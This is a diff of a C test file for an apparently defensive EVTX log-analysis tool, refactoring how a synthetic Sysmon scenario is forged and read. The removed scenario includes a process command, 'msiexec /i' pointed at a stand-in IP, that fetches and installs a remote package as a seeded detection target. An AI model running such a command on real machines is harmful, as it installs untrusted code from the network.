@@ -3,28 +3,15 @@
  * Logs whose chunks are not where they should be, small ones in one unit and large ones in many: the
  * records that were not touched come out, however many workers there are, and can be read again.
  */
-#include "testing_files.h"
+#include "testing_forge.h"
 
 #include <signal.h>
 
 #include "accounts.h"
 #include "evtxhound/evtx.h"
-#include "evtxhound/forge.h"
 #include "evtxhound/pipeline.h"
 
-static const char scenario[] =
-	"start: 2026-01-05T08:00:00Z\n"
-	"seed: 1\n"
-	"hosts:\n"
-	"  A: {name: a.example, domain: EX, log: sysmon}\n"
-	"users:\n"
-	"  u: {domain: EX, sid: S-1-5-21-1-2-3-1001, logon: 0x1234}\n"
-	"processes:\n"
-	"  - {name: p, host: A, image: 'C:\\Windows\\System32\\cmd.exe', user: u, at: 5m,\n"
-	"     command: 'cmd.exe /c msiexec /i http://203.0.113.9/a.msi'}\n"
-	"noise:\n"
-	"  - {host: A, user: u, processes: 1200, from: 0m, to: 60m}\n";
-#define LOG_NAME "A/Microsoft-Windows-Sysmon%4Operational.evtx"
+static const char scenario[] = FORGE_HOST FORGE_PROCESS FORGE_NOISE(1200);
 #define CHUNK(n) (EVTX_HEADER_SIZE + (size_t)(n) * EVTX_CHUNK_SIZE)
 
 struct fixture {
@@ -39,23 +26,11 @@ struct fixture {
 static int set_up(void **state)
 {
 	struct fixture *x = calloc(1, sizeof(*x));
-	uint8_t piece[4096];
 	char path[PATH_MAX], rules[4096];
-	struct buf told;
-	ssize_t n;
 	test_folder_make(&x->folder);
-	int dir = open(x->folder.path, O_RDONLY | O_DIRECTORY);
-	buf_init(&told, 0);
-	if (forge_scenario(view_str(scenario), "test", dir, &told, &x->e) < 0)
-		fail_msg("%s", x->e.msg);
-	buf_release(&told);
-	close(dir);
-	buf_init(&x->log, 0);
+	forge_log(x->folder.path, scenario);
+	x->log = read_whole(test_path(&x->folder, LOG_NAME, path));
 	buf_init(&x->now, 0);
-	int fd = open(test_path(&x->folder, LOG_NAME, path), O_RDONLY);
-	while ((n = read(fd, piece, sizeof(piece))) > 0)
-		buf_add(&x->log, piece, (size_t)n);
-	close(fd);
 	snprintf(rules, sizeof(rules), "%s/rules", getenv("SRCDIR") ? getenv("SRCDIR") : ".");
 	assert_int_equal(ruleset_init(&x->rules, &x->e), 0);
 	assert_int_equal(ruleset_add(&x->rules, rules, &x->e), 0);
